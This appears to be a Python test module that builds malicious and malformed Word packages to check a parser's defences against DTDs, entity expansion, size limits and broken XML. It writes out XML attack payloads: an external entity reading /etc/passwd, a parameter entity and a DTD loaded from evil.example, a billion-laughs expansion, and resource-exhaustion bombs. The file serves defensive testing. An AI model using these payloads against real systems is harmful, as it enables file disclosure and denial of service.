"""What is inside the parts: DTDs in every place and encoding, XML beyond the limits; and what is odd but sound."""

import random
from functools import partial

from badges.word import package
from tests.hostile.case import (
    TYPES,
    Case,
    base,
    blocked,
    damaged,
    fine,
    noted,
    recoded,
    unread,
    unsafe,
    with_body,
    with_part,
)
from tests.submissions.checks import papers
from tests.submissions.checks.papers import MAIN, line, replaced, written

SETTINGS, STYLES, RELS = "word/settings.xml", "word/styles.xml", "word/_rels/document.xml.rels"
CORE = "docProps/core.xml"
ENTITY = '<!DOCTYPE w [<!ENTITY a "b">]>'
LAUGHS = "<!DOCTYPE w [" + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10 if n else "ha"}">' for n in range(10)) + "]>"
OUTSIDE = '<!DOCTYPE w [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE w [<!ENTITY % a SYSTEM "http://evil.example/a.dtd">%a;]>'
MIB = 1 << 20


def rich() -> bytes:
    """A guide with one of everything that is read: header, footer, notes, comments, lists, tables, fields, changes."""
    content = with_body(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2"/></w:tcPr><w:p><w:r><w:t>in a table</w:t></w:r></w:p>'
        '</w:tc></w:tr></w:tbl><w:p><w:pPr><w:numPr><w:ilvl w:val="1"/><w:numId w:val="1"/></w:numPr></w:pPr>'
        "<w:ins><w:r><w:t>new</w:t></w:r></w:ins><w:del><w:r><w:delText>old</w:delText></w:r></w:del>"
        '<w:r><w:footnoteReference w:id="1"/></w:r><w:fldSimple w:instr="PAGE"><w:r><w:t>1</w:t></w:r></w:fldSimple>'
        '<w:hyperlink w:anchor="a"><w:r><w:t>there</w:t></w:r></w:hyperlink><w:r><w:sym w:char="F0FC"/>'
        "<w:br/><w:tab/><w:rPr><w:vanish/></w:rPr><w:t>hidden</w:t></w:r></w:p>"
    )
    for kind, root, inside in (
        ("header", "hdr", line("above")),
        ("footer", "ftr", line("below")),
        ("footnotes", "footnotes", f'<w:footnote w:id="1">{line("a note")}</w:footnote>'),
        ("comments", "comments", f'<w:comment w:id="1">{line("a remark")}</w:comment>'),
    ):
        text = f'<w:{root} xmlns:w="{papers.W}">{inside}</w:{root}>'
        content = with_part(f"word/{kind}8.xml", text.encode(), kind=kind, content=content)
    return content


def in_part(part: str, insert: str) -> bytes:
    """`insert` in front of the root of a part that the guide has."""
    content = base()
    text = package.unpack(content)[part].decode()
    head, found, rest = text.partition("?>")
    after = f"{head}{found}{insert}{rest}" if found else f"{insert}{text}"
    return package.pack({**package.unpack(content), part: after.encode()})


def in_new_part(name: str, text: str, *, encoding: str = "utf-8", kind: str = "", content_type: str = "") -> bytes:
    return with_part(name, text.encode(encoding), kind=kind, content_type=content_type)


def in_text(entity: str) -> bytes:
    return replaced(in_part(MAIN, ENTITY), "Answer 1.", entity)


def digits(count: int, seed: int = 1) -> list[str]:
    """Signs that hardly pack, so that a part may be large without being a bomb."""
    draw = random.Random(seed)
    return [f"{draw.getrandbits(32):x}" for _ in range(count)]


def paragraphs(count: int) -> bytes:
    return written("".join(f'<w:p w:a="{each[0]}"/>' for each in digits(count)))


def words(count: int) -> bytes:
    return written("".join(f"<w:p><w:r><w:t>{each[:2]}</w:t></w:r></w:p>" for each in digits(count)))


def characters(count: int) -> bytes:
    return written(line(" ".join(digits(count // 8))))


def attribute(size: int, sign: str = "") -> bytes:
    value = sign + "".join(digits(size // 8))
    return with_body(f'<w:p><w:pPr><w:pStyle w:val="{value}"/></w:pPr></w:p>')


def long_comment(size: int) -> bytes:
    piece = "".join(digits(1_024)).encode()
    return with_part("word/odd.bin", b"<!--" + piece * (size // len(piece)) + b"--><a/>")


def alternative_text(size: int) -> bytes:
    spaces = 'xmlns:v="urn:schemas-microsoft-com:vml"'
    return with_body(
        f'<w:p><w:r><v:shape {spaces} alt="{"".join(digits(size // 8))}"><v:imagedata/></v:shape></w:r></w:p>'
    )


def nested_tables(depth: int, count: int) -> bytes:
    inner = "".join(line(each) for each in digits(count))
    return written("<w:tbl><w:tr><w:tc>" * depth + inner + "</w:tc></w:tr></w:tbl>" * depth)


def nested_controls(depth: int, count: int) -> bytes:
    opened = "".join(
        f'<w:sdt><w:sdtPr><w:tag w:val="answer:L2-RG-Q{number % 3 + 1}"/></w:sdtPr><w:sdtContent>'
        for number in range(depth)
    )
    inner = "".join(f'<w:p w:rsidR="{each}"/>' for each in digits(count))
    return written(f"{opened}{inner}{'</w:sdtContent></w:sdt>' * depth}")


def spans(name: str, value: str) -> bytes:
    cell = f'<w:tc><w:tcPr><w:{name} w:val="{value}"/></w:tcPr>{line("x")}</w:tc>'
    return with_body(f"<w:tbl><w:tr><w:trPr><w:{name} w:val='{value}'/></w:trPr>{cell}</w:tr></w:tbl>")


def wrong_numbers() -> bytes:
    numbered = '<w:pPr><w:numPr><w:ilvl w:val=""/><w:numId w:val="-1"/></w:numPr></w:pPr>'
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="4.5"/></w:tcPr><w:p>{numbered}</w:p></w:tc>'
    return with_body(f"<w:tbl><w:tr>{cell}</w:tr></w:tbl>")


def merges(rows: int, columns: int) -> bytes:
    cell = '<w:tc><w:tcPr><w:vMerge/><w:gridSpan w:val="63"/></w:tcPr><w:p/></w:tc>'
    return with_body(f"<w:tbl>{f'<w:tr>{cell * columns}</w:tr>' * rows}</w:tbl>")


def long_namespace(size: int, count: int) -> bytes:
    inside = "".join(f'<x:a b="{each}"/>' for each in digits(count))
    return with_body(f'<w:p xmlns:x="urn:{"x" * size}">{inside}</w:p>')


def many_namespaces(count: int) -> bytes:
    declared = " ".join(f'xmlns:a{number}="urn:{each}"' for number, each in enumerate(digits(count)))
    return with_body(f"<w:p {declared}/>")


def namespaces_everywhere(count: int) -> bytes:
    many = " ".join(f'xmlns:a{number}="urn:{number}"' for number in range(200))
    inside = "".join(f'<w:p xmlns:x="urn:{each}"/>' for each in digits(count))
    return with_body(f"<w:customXml {many}>{inside}</w:customXml>")


def note_bomb() -> bytes:
    """One long note, referred to very often."""
    note = (
        f'<w:footnotes xmlns:w="{papers.W}"><w:footnote w:id="1">{line("word " * 100_000)}</w:footnote></w:footnotes>'
    )
    referring = '<w:r><w:footnoteReference w:id="1"/></w:r>' * 20_000
    content = with_body(f"<w:p>{referring}</w:p>")
    return with_part("word/footnotes.xml", note.encode(), kind="footnotes", content=content)


def numbering_bomb() -> bytes:
    """Very many levels in one list, very many lists that refer to it."""
    levels = "".join(f'<w:lvl w:ilvl="{number}"><w:numFmt w:val="bullet"/></w:lvl>' for number in range(1_000))
    lists = "".join(
        f'<w:num w:numId="{number}" w:durableId="{each}"><w:abstractNumId w:val="0"/></w:num>'
        for number, each in enumerate(digits(100_000))
    )
    defined = f'<w:abstractNum w:abstractNumId="0">{levels}</w:abstractNum>{lists}'
    return _instead("word/numbering.xml", f'<w:numbering xmlns:w="{papers.W}">{defined}</w:numbering>')


def many_styles(count: int) -> bytes:
    styles = "".join(f'<w:style w:styleId="s{each}"><w:name w:val="x"/></w:style>' for each in digits(count))
    return _instead(STYLES, f'<w:styles xmlns:w="{papers.W}">{styles}</w:styles>')


def _instead(part: str, text: str) -> bytes:
    parts = package.unpack(base())
    assert part in parts
    return package.pack({**parts, part: text.encode()})


def many_relationships(count: int, *, kind: str = "hyperlink") -> bytes:
    more = "".join(
        f'<Relationship Id="{number}" Type="{papers.R}/{kind}" Target="http://{each}.example" TargetMode="External"/>'
        for number, each in enumerate(digits(count))
    )
    return replaced(base(), "</Relationships>", f"{more}</Relationships>", RELS)


def one_part_many_times(count: int, size: int) -> bytes:
    """The same header again and again: each part is read once."""
    header = f'<w:hdr xmlns:w="{papers.W}"><!--{"".join(digits(size // 8))}--></w:hdr>'
    content = with_part("word/header9.xml", header.encode(), kind="header")
    more = "".join(
        f'<Relationship Id="h{number}" Type="{papers.R}/header" Target="header9.xml"/>' for number in range(count)
    )
    return replaced(content, "</Relationships>", f"{more}</Relationships>", RELS)


def close_to_questions(count: int) -> bytes:
    """Very many lines that nearly say a question."""
    said = "What did you notice about teams in the works that you have supported {}?"
    return written("".join(line(said.format(each)) for each in digits(count)))


def overrides(count: int) -> bytes:
    more = "".join(
        f'<Override PartName="/{each}{number}" ContentType="a/b"/>' for number, each in enumerate(digits(count))
    )
    return replaced(base(), "</Types>", f"{more}</Types>", TYPES)


DTDS = (
    unsafe("an entity in the text", partial(in_text, "&a;"), "dtd"),
    unsafe(
        "an entity in an attribute", lambda: replaced(in_part(MAIN, ENTITY), 'w:val="Answer"', 'w:val="&a;"'), "dtd"
    ),
    unsafe("a billion laughs", lambda: replaced(in_part(MAIN, LAUGHS), "Answer 1.", "&e9;"), "dtd"),
    unsafe("an entity outside", partial(in_part, MAIN, OUTSIDE), "dtd"),
    unsafe("a parameter entity", partial(in_part, MAIN, PARAMETER), "dtd"),
    unsafe("a DTD that declares nothing", partial(in_part, MAIN, "<!DOCTYPE w>"), "dtd"),
    unsafe(
        "a DTD on another computer", partial(in_part, MAIN, '<!DOCTYPE w SYSTEM "http://evil.example/a.dtd">'), "dtd"
    ),
    *(
        unsafe(f"an entity in {part}", partial(in_part, part, ENTITY), "dtd")
        for part in (TYPES, "_rels/.rels", RELS, STYLES, SETTINGS, CORE, "docProps/custom.xml", "word/numbering.xml")
    ),
    *(
        unsafe(f"an entity in {encoding}", partial(recoded, MAIN, encoding, declared="UTF-16", insert=ENTITY), "dtd")
        for encoding in ("utf-16", "utf-16-le", "utf-16-be")
    ),
    unsafe("an entity in settings in UTF-16", partial(recoded, SETTINGS, "utf-16", insert=ENTITY), "dtd"),
    unsafe(
        "an entity in settings in UTF-16 without a mark",
        partial(recoded, SETTINGS, "utf-16-be", declared="UTF-16", insert=ENTITY),
        "dtd",
    ),
    *(
        unsafe(f"an entity in settings in {encoding}", partial(recoded, SETTINGS, encoding, insert=ENTITY), "dtd")
        for encoding in ("utf-32", "utf-32-be", "utf-7", "cp037")
    ),
    unsafe("an entity behind a long comment", partial(in_part, SETTINGS, f"<!--{'x' * 200_000}-->{ENTITY}"), "dtd"),
    unsafe("an entity in customXml", partial(in_new_part, "customXml/item1.xml", f"{ENTITY}<a/>"), "dtd"),
    unsafe("an entity in a part of no type", partial(in_new_part, "word/footer.bin", f"{ENTITY}<a/>"), "dtd"),
    unsafe(
        "an entity in a header",
        partial(in_new_part, "word/header7.xml", f'{ENTITY}<w:hdr xmlns:w="{papers.W}"/>', kind="header"),
        "dtd",
    ),
    unsafe(
        "an entity in a drawing",
        partial(in_new_part, "word/media/a.svg", f"{ENTITY}<svg/>", content_type="image/svg+xml"),
        "dtd",
    ),
    fine(
        "a drawing that names its DTD",
        partial(
            in_new_part,
            "word/media/a.svg",
            '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>',
            content_type="image/svg+xml",
        ),
    ),
    fine(
        "a web page that names its DTD",
        partial(in_new_part, "word/afchunk.htm", "<!DOCTYPE html><html/>", content_type="text/html"),
    ),
)
LIMITS = (
    unsafe("201 elements deep", lambda: written("<w:sdt>" * 201 + line("deep") + "</w:sdt>" * 201), "depth"),
    unsafe(
        "300 attributes", lambda: with_body("<w:p " + " ".join(f"a{n}=''" for n in range(300)) + "/>"), "attributes"
    ),
    unsafe("a hundred elements beyond the limit", partial(paragraphs, 1_500_100), "elements"),
    unsafe("5.2 million characters", partial(characters, 5_400_000), "characters"),
    unsafe("too many relationships", partial(many_relationships, 100_300), "relationships"),
    unsafe("too many types", partial(overrides, 20_300), "content types"),
    unsafe("a long note very often", note_bomb, "characters"),
    fine("a long namespace", partial(long_namespace, 10_000, 10_000)),
    unsafe("400 namespaces on one element", partial(many_namespaces, 400), "attributes"),
    Case("1.4 million empty paragraphs", partial(paragraphs, 1_400_000), "unread", ("text.none", "read.unsure")),
    unread("300,000 words in as many paragraphs", partial(words, 300_000)),
    unsafe("a comment of 100 MiB in front of a part", partial(long_comment, 100 * MIB), "part size"),
    fine("a comment of 20 MiB in front of a part", partial(long_comment, 20 * MIB)),
    fine("20 MiB in one attribute", partial(attribute, 20 * MIB)),
    fine("20 MiB in one attribute, with a sign beyond the first plane", partial(attribute, 20 * MIB, "𝒳")),
    fine("the text for a picture of 10 MiB", partial(alternative_text, 10 * MIB)),
    unread("60 tables in each other and 100,000 paragraphs", partial(nested_tables, 60, 100_000)),
    blocked("60 controls in each other and 300,000 paragraphs", partial(nested_controls, 60, 300_000), "kind.template"),
    unread("20,000 lines that nearly are questions", partial(close_to_questions, 20_000)),
    fine("100,000 elements that declare a namespace", partial(namespaces_everywhere, 100_000)),
    fine("100,000 lists of a thousand levels", numbering_bomb),
    fine("400,000 styles", partial(many_styles, 400_000)),
    fine("50,000 links", partial(many_relationships, 50_000)),
    fine("one large header 300 times", partial(one_part_many_times, 300, 8 * MIB)),
    *(
        fine(f"{name} of {value}", partial(spans, name, value))
        for name in ("gridSpan", "gridBefore", "gridAfter")
        for value in ("63", "2147483647")
    ),
    fine("300 rows of 100 merged cells", partial(merges, 300, 100)),
)
BROKEN = (
    damaged("an element left open", lambda: replaced(base(), "</w:body>", "")),
    damaged("an unknown entity", lambda: replaced(base(), "Answer 1.", "&nbsp;")),
    damaged("a sign that XML forbids", lambda: replaced(base(), "Answer 1.", "&#1;")),
    damaged(
        "bytes that are no UTF-8",
        lambda: package.pack(
            {**package.unpack(base()), MAIN: package.unpack(base())[MAIN].replace(b"Answer 1.", b"\xff\xfe")}
        ),
    ),
    damaged("an encoding nobody knows", partial(recoded, MAIN, "utf-8", declared="Klingon")),
    # UTF-8 or UTF-16, says ECMA-376 Part 2, 9.1.4 [M1.17], of the parts that every package has; nothing we know of
    # writes Word's own parts otherwise. With one byte to a sign they are read all the same; with more, saving helps.
    damaged("the main part in GB2312", partial(recoded, MAIN, "gb2312")),
    damaged("the main part in Shift_JIS", partial(recoded, MAIN, "shift_jis")),
    damaged("an encoding by a name of its own", partial(recoded, MAIN, "utf-8", declared="utf8")),
    damaged("an empty main part", lambda: package.pack({**package.unpack(base()), MAIN: b""})),
    damaged("text behind the root", lambda: replaced(base(), "</w:document>", "</w:document>more")),
)
SOUND = (
    *(
        fine(f"the main part in {encoding}", partial(recoded, MAIN, encoding, declared=declared))
        for encoding, declared in (
            ("utf-16", "UTF-16"),
            ("utf-16-le", "UTF-16"),
            ("utf-16-be", "UTF-16"),
            ("utf-8-sig", "UTF-8"),
            ("windows-1252", ""),
            ("iso-8859-1", ""),
            ("utf-8", "utf-8"),
            ("us-ascii", ""),
        )
    ),
    fine("styles in UTF-16", partial(recoded, STYLES, "utf-16")),
    fine("types in UTF-16", partial(recoded, TYPES, "utf-16")),
    fine("no declaration", lambda: _instead(MAIN, package.unpack(base())[MAIN].decode().partition("?>")[2])),
    fine(
        "a comment and an instruction in front",
        partial(in_part, MAIN, "<!-- made by hand --><?mso-application progid='Word.Document'?>"),
    ),
    fine("an empty settings part", lambda: _instead(SETTINGS, "")),
    fine(
        "other prefixes",
        lambda: papers.altered(
            base(),
            lambda text: (
                text.replace("<w:", "<x:").replace("</w:", "</x:").replace(" w:", " x:").replace("xmlns:w=", "xmlns:x=")
            ),
        ),
    ),
    fine("numbers that are none", wrong_numbers),
    fine("a prefix nobody declared", lambda: replaced(base(), "<w:body>", "<w:body><q:p/>")),
    fine("text in CDATA", lambda: replaced(base(), "Answer 1.", "<![CDATA[Answer 1.]]>")),
    noted(
        "comments in the margin",
        lambda: in_new_part(
            "word/comments.xml", f'<w:comments xmlns:w="{papers.W}"><w:comment w:id="1"/></w:comments>', kind="comments"
        ),
        "open.comments",
    ),
)
CASES = (*DTDS, *LIMITS, *BROKEN, *SOUND)
